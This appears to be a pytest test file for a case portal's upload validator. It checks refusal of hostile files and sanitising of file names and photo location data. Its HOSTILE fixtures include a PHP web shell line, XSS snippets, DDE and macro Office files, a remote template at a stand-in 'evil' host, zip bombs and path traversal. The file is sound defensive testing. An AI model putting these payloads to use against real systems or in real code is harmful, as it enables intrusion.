"""Files: what is taken, what is refused or made harmless, and that none is left behind."""

import io
import zipfile

import pytest
from PIL import Image
from sqlalchemy import func, select

from app.access.actor import acting, system_scope
from app.core import store
from app.core.errors import Invalid, NotAllowed, NotFound, PortalError, TooLarge, WrongState, WrongType
from app.core.files import NAME_LENGTH, check_file, safe_name
from app.models.attachment import Attachment
from app.services import attachment, draft
from app.services.registration import register_case
from tests.services.people import intake

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def picture(kind="JPEG", size=(40, 20), **kw):
    out = io.BytesIO()
    Image.new("RGB", size, (200, 10, 10)).save(out, kind, **kw)
    return out.getvalue()


def zipped(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def word(**more):
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>", **more})


def sheet(**more):
    return zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", **more})


def with_position():
    exif = Image.Exif()
    exif[0x0112] = 6  # turned
    exif.get_ifd(0x8825)[2] = (36.0, 51.0, 12.0)
    exif[0x010F] = "SecretPhone"
    return picture(exif=exif)


GOOD = {
    "征地补偿协议.pdf": PDF,
    "照片.jpg": picture(),
    "照片.JPEG": picture(),
    "图.png": picture("PNG"),
    "说明.docx": word(),
    "名单.xlsx": sheet(**{"xl/printerSettings/printerSettings1.bin": "x"}),
    "记录.txt": "谈话记录\n第一行".encode(),
    "老文件.txt": "谈话记录".encode("gb18030"),
    "录音.mp3": b"ID3\x04\x00" + b"\x00" * 50,
    "录像.mp4": b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 50,
}


@pytest.mark.parametrize("name", GOOD)
def test_good_files_are_taken(name):
    checked = check_file(name, GOOD[name])
    assert checked.name == name and checked.data and "/" in checked.mime


HOSTILE = {
    "macro.docx": word(**{"word/vbaProject.bin": "x"}),
    "macro.docm": word(),
    "macro-type.docx": zipped({"[Content_Types].xml": "<T macroEnabled='1'/>", "word/document.xml": "<d/>"}),
    "ole.xlsx": sheet(**{"xl/embeddings/oleObject1.bin": "x"}),
    "activex.docx": word(**{"word/activeX/activeX1.xml": "<a/>"}),
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "old-as-new.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "entities.docx": word(**{"word/styles.xml": "<!DOCTYPE lolz [<!ENTITY a 'b'>]><x/>"}),
    "dde.docx": word(**{"word/footer.xml": "<w:instr>DDEAUTO c:\\\\cmd</w:instr>"}),
    "remote.docx": word(
        **{
            "word/_rels/settings.xml.rels": '<R Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
        }
    ),
    "bomb.xlsx": sheet(**{"xl/worksheets/sheet1.xml": "0" * 30_000_000}),
    "bomb-many.docx": word(**{f"word/a{n}.xml": "" for n in range(4000)}),
    "slip.docx": word(**{"../../evil.txt": "x"}),
    "not-office.docx": zipped({"a.txt": "x"}),
    "cut.docx": word()[:-30],
    "page.html": b"<script>alert(1)</script>",
    "picture.svg": b"<svg onload=alert(1)>",
    "page.pdf": b"<html><script>alert(1)</script>",
    "late.pdf": b"junk" + PDF,
    "script.pdf": PDF.replace(b"endobj", b"/JavaScript (app.alert(1)) endobj"),
    "launch.pdf": PDF.replace(b"endobj", b"/Launch endobj"),
    "cut.pdf": b"%PDF-1.4\n1 0 obj",
    "polyglot.pdf": PDF[:-7] + zipped({"a": "b"}) + b"",
    "program.exe": b"MZ" + b"\x00" * 100,
    "program.jpg": b"MZ" + b"\x00" * 100,
    "program.txt": b"MZ\x90\x00\x03" + b"\x00" * 100,
    "gif.png": b"GIF89a" + b"\x00" * 20,
    "broken.png": picture("PNG")[:60],
    "html.png": b"<html>",
    "shell.php": b"<?php system($_GET[0]);",
    "nothing.pdf": b"",
    "noextension": PDF,
    "photo\u202egpj.exe": b"MZ",
    "rtl.txt": "a\u202eb".encode(),
    "archive.zip": zipped({"a": "b"}),
    "java.jar.mp3": zipped({"a": "b"}),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused_in_words(name):
    with pytest.raises((Invalid, WrongType)) as refusal:
        check_file(name, HOSTILE[name])
    assert str(refusal.value)


def test_position_and_camera_are_gone_and_the_picture_upright():
    data = check_file("现场.jpg", with_position()).data
    with Image.open(io.BytesIO(data)) as kept:
        assert kept.size == (20, 40) and not dict(kept.getexif())
    assert b"SecretPhone" not in data


def test_what_is_appended_to_a_picture_is_gone():
    data = check_file("a.png", picture("PNG") + zipped({"evil": "x"}) + b"<script>").data
    assert b"<script>" not in data and b"PK\x05\x06" not in data


def test_position_in_a_recording_is_blanked():
    raw = b"\x00\x00\x00\x18ftypmp42" + b"\xa9xyz\x00\x12\x15\xc7+36.8500+119.4000/" + b"\x00" * 9
    assert b"36.8500" not in check_file("a.mp4", raw).data


@pytest.mark.parametrize(
    ("raw", "name"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("..\\..\\a.txt", "a.txt"),
        ("C:\\x\\报告.pdf", "报告.pdf"),
        ("a\x00.txt", "a.txt"),
        ("a\r\nSet-Cookie: x.txt", "aSet-Cookie_ x.txt"),
        ("<b>.txt", "_b_.txt"),
        (".pdf", "attachment.pdf"),
        ("  a .txt", "a .txt"),
        ("photo\u202egpj.txt", "photogpj.txt"),
        ("𠮷家.pdf", "𠮷家.pdf"),
        ("a" * 300 + ".pdf", "a" * (NAME_LENGTH - 4) + ".pdf"),
        ("", "attachment"),
        (None, "attachment"),
        ("...", "attachment"),
    ],
)
def test_names_are_made_harmless(raw, name):
    assert safe_name(raw) == name and len(safe_name(raw)) <= NAME_LENGTH


@pytest.fixture
def case(session, actor):
    with acting(actor("clerk.t1")):
        return register_case(actor("clerk.t1"), intake()).case


def files_on_disk(app):
    with app.app_context():
        return {path.name for path in attachment.folder().glob("*/*/*")}


def test_a_file_is_kept_under_a_random_key(app, session, case, actor):
    before = files_on_disk(app)
    clerk = actor("clerk.t1")
    with acting(clerk):
        row = attachment.attach(clerk, case, "../补偿协议.pdf", io.BytesIO(PDF))
        assert row.name == "补偿协议.pdf" and row.mime == "application/pdf" and row.look == "pdf"
        assert attachment.path_of(row.storage_key).read_bytes() == PDF and len(row.storage_key) == 40
        assert attachment.of_case(case.id) == [row] and case.attachments == [row]
        assert files_on_disk(app) - before == {row.storage_key}
        with pytest.raises(WrongState):
            attachment.remove(clerk, row)


def test_no_file_is_left_behind_after_a_failure(app, session, case, actor, monkeypatch):
    before, clerk = files_on_disk(app), actor("clerk.t1")
    monkeypatch.setattr(attachment, "COUNT_MOST", 0)
    with acting(clerk), pytest.raises(PortalError):
        attachment.attach(clerk, case, "a.pdf", io.BytesIO(PDF))
    assert files_on_disk(app) == before
    with system_scope("test"):
        assert session.scalar(select(func.count(Attachment.id))) == 0


def test_too_large_and_disk_full(app, session, case, actor, monkeypatch):
    clerk = actor("clerk.t1")
    with acting(clerk):
        with pytest.raises(TooLarge):
            attachment.attach(clerk, case, "a.txt", io.BytesIO(b"a" * (20 * 2**20 + 1)))
        monkeypatch.setattr(store.os, "fsync", lambda _fd: (_ for _ in ()).throw(OSError(28, "No space left")))
        with pytest.raises(PortalError) as refusal:
            attachment.attach(clerk, case, "a.pdf", io.BytesIO(PDF))
        assert refusal.value.status == 507
    assert not [name for name in files_on_disk(app) if name.endswith(".part")]


def test_who_may(session, case, actor):
    with acting(actor("expert.1")), pytest.raises(NotAllowed):
        attachment.attach(actor("expert.1"), case, "a.pdf", io.BytesIO(PDF))


def test_only_within_the_scope(session, case, actor):
    clerk = actor("clerk.t1")
    with acting(clerk):
        row = attachment.attach(clerk, case, "a.pdf", io.BytesIO(PDF))
        assert attachment.find(row.id) is row
    with acting(actor("clerk.t2")), pytest.raises(NotFound):
        attachment.find(row.id)


def test_a_draft_takes_its_files_with_it(app, session, actor):
    clerk, before = actor("clerk"), files_on_disk(app)
    with acting(clerk):
        kept = draft.save(clerk, None, {"title": "x", "fields": []})
        row = attachment.attach(clerk, kept, "a.pdf", io.BytesIO(PDF))
        other = attachment.attach(clerk, kept, "b.pdf", io.BytesIO(PDF))
        attachment.remove(clerk, other)
        assert files_on_disk(app) - before == {row.storage_key}
        case = register_case(clerk, intake(draft=kept.id)).case
        assert [file.name for file in case.attachments] == ["a.pdf"]
        again = draft.save(clerk, None, {"title": "y", "fields": []})
        attachment.attach(clerk, again, "c.pdf", io.BytesIO(PDF))
        draft.delete(clerk, again.id)
        assert files_on_disk(app) - before == {row.storage_key}


def test_the_sweep_removes_only_old_orphans(app, session, case, actor, monkeypatch):
    clerk = actor("clerk.t1")
    with acting(clerk):
        row = attachment.attach(clerk, case, "a.pdf", io.BytesIO(PDF))
        orphan = attachment.path_of(store.write(attachment.folder(), b"orphan"))
        monkeypatch.setattr(attachment, "ORPHAN_AGE", -10)
        attachment.sweep()
        assert not orphan.exists() and attachment.path_of(row.storage_key).exists()
